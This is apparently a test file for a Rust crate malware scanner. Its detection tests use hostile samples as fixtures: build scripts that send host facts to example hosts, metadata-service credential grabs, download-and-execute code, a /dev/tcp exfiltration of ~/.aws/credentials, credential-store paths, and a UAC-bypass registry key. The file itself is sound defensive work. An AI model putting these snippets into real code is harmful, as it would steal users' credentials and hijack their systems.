"""Sources, sinks and destinations in their general forms: secrets by the shape of their
name, environment dumps, host facts through crates, credential paths built in pieces,
network clients imported by name, shell channels, addresses built from integers."""

from __future__ import annotations

from pathlib import Path

import pytest

from cratewatch.model.scan import Verdict
from cratewatch.scan.analyze import Context, analyze_file
from cratewatch.scan.crate import scan_path
from cratewatch.scan.imports import imported_paths, resolve_imports

MANIFEST = '[package]\nname = "tiny"\nversion = "0.1.0"\n'


def _rules(source: str, context: Context = Context.LIBRARY, path: str = "src/lib.rs") -> set[str]:
    return {e.rule for e in analyze_file(path, source.encode(), context).evidence}


def _crate(tmp_path: Path, files: dict[str, str]) -> Verdict:
    for name, text in {"Cargo.toml": MANIFEST, **files}.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    return scan_path(tmp_path).verdict


# -- sources ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "POLYMARKET_PRIVATE_KEY",
        "OPENAI_API_KEY",
        "AWS_ACCESS_KEY_ID",
        "GITLAB_TOKEN",
        "CARGO_REGISTRIES_CORP_TOKEN",
        "VAULT_TOKEN",
        "DB_PASSWORD",
        "WALLET_MNEMONIC",
        "SIGNING_KEY",
    ],
)
def test_secret_named_environment_reads(name: str) -> None:
    assert "threat-secret-like-environment" in _rules(f'fn f() {{ std::env::var("{name}"); }}')


@pytest.mark.parametrize(
    "name", ["RUST_LOG", "CARGO_PKG_NAME", "OUT_DIR", "HOME", "CARGO_MANIFEST_DIR", "KEY", "PATH"]
)
def test_ordinary_environment_reads_are_not_secrets(name: str) -> None:
    assert "threat-secret-like-environment" not in _rules(f'fn f() {{ env::var("{name}"); }}')


def test_secret_like_names_outside_an_environment_read_are_not_secrets() -> None:
    # GTK key names, TLS key-schedule labels: names, not environment reads
    source = 'const A: &[&str] = &["GDK_KEY_PRESS", "CLIENT_TRAFFIC_SECRET_0"];\n'
    assert "threat-secret-like-environment" not in _rules(source)


def test_a_filter_of_the_environment_on_secret_words() -> None:
    source = (
        'fn f() { let s: Vec<_> = env::vars().filter(|(k, _)| k.contains("TOKEN")).collect(); }'
    )
    assert "threat-secret-like-environment" in _rules(source)


def test_an_environment_dump_posted_from_one_function(tmp_path: Path) -> None:
    lib = """
pub fn report() {
    let all: Vec<(String, String)> = std::env::vars().collect();
    let _ = ureq::post("https://telemetry.example-cdn.com/v1").send_string(&format!("{all:?}"));
}
"""
    assert "threat-environment-exfiltration" in _rules(lib)
    # a dump and a client in different functions of a library: no flow by itself
    apart = 'pub fn a() { let _v: Vec<_> = env::vars().collect(); }\nfn b() { ureq::get("u"); }\n'
    assert "threat-environment-exfiltration" not in _rules(apart)


def test_host_facts_through_crates_are_collected_while_building(tmp_path: Path) -> None:
    build = """
fn main() {
    let who = format!("{}@{:?}", whoami::username(), hostname::get());
    let _ = minreq::post("https://build-stats.example-cdn.com/v1").with_body(who).send();
}
"""
    assert "threat-build-exfiltration" in _rules(build, Context.BUILD, "build.rs")
    assert _crate(tmp_path, {"build.rs": build, "src/lib.rs": ""}) is Verdict.MALICIOUS


def test_metadata_service_is_a_source_while_building() -> None:
    build = """
fn main() {
    let creds = ureq::get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").call();
    let _ = ureq::post("https://x.example-cdn.com/").send_string(&format!("{creds:?}"));
}
"""
    found = _rules(build, Context.BUILD, "build.rs")
    assert "threat-build-exfiltration" in found
    assert "threat-raw-ip-url" not in found  # a source, not a destination


@pytest.mark.parametrize(
    ("code", "folded"),
    [
        ('let p = home.join(".ssh").join("id_rsa");', ".ssh/id_rsa"),
        ('let p = home.join(".config")\n    .join("solana")\n    .join("id.json");', "solana"),
        ('let mut p = home; p.push(".aws"); p.push("credentials");', ".aws/credentials"),
        (
            'let p = PathBuf::from(env::var("CARGO_HOME").unwrap()).join("credentials");',
            ".cargo/credentials",
        ),
        ('let p = format!("{}/{}", home, ".git-credentials");', ".git-credentials"),
        ('let p = [".ssh", "id_ed25519"].join("/");', ".ssh/id_ed25519"),
    ],
)
def test_credential_paths_built_in_pieces(code: str, folded: str) -> None:
    evidence = analyze_file(
        "src/lib.rs", f"fn f(home: PathBuf) {{\n    {code}\n}}\n".encode(), Context.LIBRARY
    ).evidence
    hits = [
        e for e in evidence if e.rule in ("threat-credential-store", "threat-cloud-credential-file")
    ]
    assert hits, code
    # a piece that names a store alone (".ssh") is reported with its own literal
    assert any(folded in e.snippet for e in hits) or any(
        e.snippet.count('"') and "=>" not in e.snippet for e in hits
    )


@pytest.mark.parametrize(
    "name",
    [
        "credentials.toml",
        ".bash_history",
        "Google/Chrome/User Data",
        ".mozilla/firefox/abcd.default/logins.json",
        "Local Extension Settings",
    ],
)
def test_more_credential_stores(name: str) -> None:
    assert "threat-credential-store" in _rules(f'const P: &str = "{name}";')


@pytest.mark.parametrize("name", [".mozilla/firefox", "Mozilla/Firefox/Profiles", ".pgpass"])
def test_where_tools_of_their_kind_read_credentials(name: str) -> None:
    # a certificate installer adds its CA to Firefox's profiles; every libpq client reads .pgpass
    found = _rules(f'const P: &str = "{name}";')
    assert "threat-credential-location" in found and "threat-credential-store" not in found


@pytest.mark.parametrize(
    "pattern", [r"[a-fA-F0-9]{64}", r"[0-9a-f]{64}", r"[1-9A-HJ-NP-Za-km-z]{32,44}"]
)
def test_key_shaped_regexes(pattern: str) -> None:
    assert "threat-private-key-pattern" in _rules(f'const R: &str = r"{pattern}";')


@pytest.mark.parametrize(
    "pattern", [r"^[1-9A-HJ-NP-Za-km-z]{32,44}$", r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"]
)
def test_whole_address_validators_search_for_no_key(pattern: str) -> None:
    assert "threat-private-key-pattern" not in _rules(f'const R: &str = r"{pattern}";')


# -- sinks --------------------------------------------------------------------------


def test_imported_names_are_read_as_their_paths() -> None:
    assert imported_paths("use reqwest::{blocking::{get, Client as C}, Url};") == [
        ("get", "reqwest::blocking::get", 0, 49),
        ("C", "reqwest::blocking::Client", 0, 49),
        ("Url", "reqwest::Url", 0, 49),
    ]
    code = (
        "use ureq::post;\nextern crate reqwest as rq;\nfn f() { post(u); rq::get(u); x.post(u); }\n"
    )
    resolved = resolve_imports(code, lambda path: True)
    assert resolved is not None
    assert resolved.splitlines()[2] == "fn f() { ureq::post(u); reqwest::get(u); x.post(u); }"
    assert resolve_imports(code, lambda path: False) is None


def test_a_client_imported_by_name_is_network_in_the_calling_function(tmp_path: Path) -> None:
    lib = """use reqwest::blocking::get;
use std::fs;
use std::process::Command;

pub fn update(url: &str) {
    let bytes = get(url).unwrap().bytes().unwrap();
    fs::write("/tmp/.u", &bytes).unwrap();
    Command::new("/tmp/.u").spawn().unwrap();
}
"""
    result = analyze_file("src/lib.rs", lib.encode(), Context.LIBRARY)
    assert ("capability-network", 6) in result.steps  # the call, inside the function
    assert "threat-download-execute" in {e.rule for e in result.evidence}


@pytest.mark.parametrize(
    "code",
    [
        'tungstenite::connect("wss://x.example-cdn.com/")',
        'tokio_tungstenite::connect_async("wss://x.example-cdn.com/")',
        "socket2::Socket::new(d, t, None)",
        "lettre::SmtpTransport::relay(h)",
        "ssh2::Session::new()",
        "hyper_util::client::legacy::Client::builder(e)",
        "URLDownloadToFileA(0, u, f, 0, 0)",
        "WinHttpOpen(a, 0, p, b, 0)",
    ],
)
def test_more_network_clients(code: str) -> None:
    assert "capability-network" in _rules(f"fn f() {{ {code}; }}")


@pytest.mark.parametrize(
    "code",
    [
        'Command::new("nc").arg("203.0.113.9")',
        'Command::new("ssh").arg("host")',
        'Command::new("sh").args(["-c", "cat f > /dev/tcp/203.0.113.9/443"])',
        'Command::new("git").args(["push", "--mirror", remote])',
    ],
)
def test_shell_network_channels(code: str) -> None:
    assert "capability-network-command" in _rules(f"fn f() {{ {code}; }}")


def test_a_key_sent_through_dev_tcp_is_exfiltration() -> None:
    source = """fn f() {
    let what = "~/.aws/credentials";
    std::process::Command::new("bash")
        .args(["-c", &format!("cat {what} > /dev/tcp/203.0.113.9/443")])
        .status();
}
"""
    assert "threat-credential-exfiltration" in _rules(source)


# -- destinations -------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://c1a2b3.oast.fun/",
        "http://x.oastify.com/",
        "https://abc.interact.sh",
        "https://x.burpcollaborator.net",
        "https://webhook.site/0000",
        "https://eo123.m.pipedream.net",
        "https://x.requestbin.net/r/1",
    ],
)
def test_out_of_band_and_request_bin_hosts(url: str) -> None:
    assert "threat-paste-or-tunnel-host" in _rules(f'const U: &str = "{url}";')


def test_slack_and_versioned_discord_webhooks() -> None:
    assert "threat-chat-webhook" in _rules(
        'const U: &str = "https://hooks.slack.com/services/T0/B0/x";'
    )
    assert "threat-discord-webhook" in _rules(
        'const U: &str = "https://discord.com/api/v10/webhooks/1/x";'
    )


@pytest.mark.parametrize(
    "code",
    [
        "Ipv4Addr::new(203, 0, 113, 7)",
        "SocketAddr::from(([198, 51, 100, 4], 4444))",
        "SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 10), 443)",
        "Ipv4Addr::from(0xCB007107u32)",
    ],
)
def test_addresses_built_from_integers(code: str) -> None:
    assert "threat-raw-ip-url" in _rules(f"fn f() {{ let a = {code}; }}")


@pytest.mark.parametrize(
    "code",
    [
        "Ipv4Addr::new(127, 0, 0, 1)",
        "Ipv4Addr::new(10, 0, 0, 2)",
        "Ipv4Addr::new(192, 168, 1, 1)",
        "Ipv4Addr::new(169, 254, 169, 254)",
        "Ipv4Addr::new(255, 255, 255, 0)",
        "Ipv4Addr::new(224, 0, 0, 251)",
        "Ipv4Addr::new(8, 8, 8, 8)",
    ],
)
def test_private_special_and_resolver_addresses_are_not_destinations(code: str) -> None:
    assert "threat-raw-ip-url" not in _rules(f"fn f() {{ let a = {code}; }}")


def test_an_address_in_a_comment_or_an_assertion_is_not_a_destination() -> None:
    source = (
        "/// let a = Ipv4Addr::new(203, 0, 113, 7);\n"
        "fn f(a: IpAddr) { assert_eq!(a, Ipv4Addr::new(203, 0, 113, 7)); }\n"
    )
    assert "threat-raw-ip-url" not in _rules(source)


def test_a_table_of_quads_made_into_addresses() -> None:
    source = (
        "const UPSTREAM: [[u8; 4]; 2] = [[198, 51, 100, 53], [203, 0, 113, 53]];\n"
        "fn f() -> Vec<SocketAddr> {\n"
        "    UPSTREAM.iter()\n"
        "        .map(|o| SocketAddr::new(Ipv4Addr::new(o[0], o[1], o[2], o[3]).into(), 53))\n"
        "        .collect()\n"
        "}\n"
    )
    assert "threat-raw-ip-url" in _rules(source)


def test_a_quad_used_otherwise_is_not_an_address() -> None:
    # DHCP's magic cookie, in a file that also makes addresses
    source = (
        "const COOKIE: [u8; 4] = [99, 130, 83, 99];\n"
        "fn ok(p: &[u8]) -> bool { p[236..240] == COOKIE }\n"
        "fn a() -> Ipv4Addr { Ipv4Addr::new(10, 0, 0, 1) }\n"
    )
    assert "threat-raw-ip-url" not in _rules(source)


@pytest.mark.parametrize(
    ("url", "destination"),
    [
        ("http://[2001:db8::5]:8080/upload", True),
        ("wss://[2606:4700::1111]/c2", True),
        ("http://[::1]:8080/", False),
        ("https://[fd12:3456::1]/", False),
        ("https://[fe80::1]/", False),
    ],
)
def test_ipv6_addresses_in_urls(url: str, destination: bool) -> None:
    assert ("threat-raw-ip-url" in _rules(f'const U: &str = "{url}";')) is destination


def test_paths_kept_in_let_bindings_and_extended_later() -> None:
    source = (
        "fn install() {\n"
        '    let home = std::env::var_os("HOME")\n'
        '        .map(|h| PathBuf::from(h).join(".gradle")).unwrap();\n'
        '    let dir = home.join("init.d");\n'
        '    let target = dir.join("mirror.gradle");\n'
        "    let _ = std::fs::write(&target, INIT);\n"
        "}\n"
    )
    assert "threat-persistence" in _rules(source)
    # a name bound again starts afresh
    rebound = (
        'fn f() { let dir = home_dir().join(".gradle"); let dir = other();\n'
        'let x = dir.join("init.d"); }\n'
    )
    assert "threat-persistence" not in _rules(rebound)


@pytest.mark.parametrize(
    "code",
    [
        r'let k = hkcu.create_subkey("Software\\Classes\\ms-settings\\Shell\\Open\\command");',
        'let k = ["Software", "Classes", "ms-settings", "Shell", "Open", "command"].join("\\\\");',
        r'let k = r"Software\Classes\mscfile\shell\open\command";',
    ],
)
def test_a_uac_bypass_through_a_shell_open_command(code: str) -> None:
    assert "threat-persistence" in _rules(f"fn f() {{ {code} }}")
    # an application registering its own URL scheme is not one
    own = r'let k = hkcu.create_subkey("Software\\Classes\\myapp\\shell\\open\\command");'
    assert "threat-persistence" not in _rules(f"fn f() {{ {own} }}")
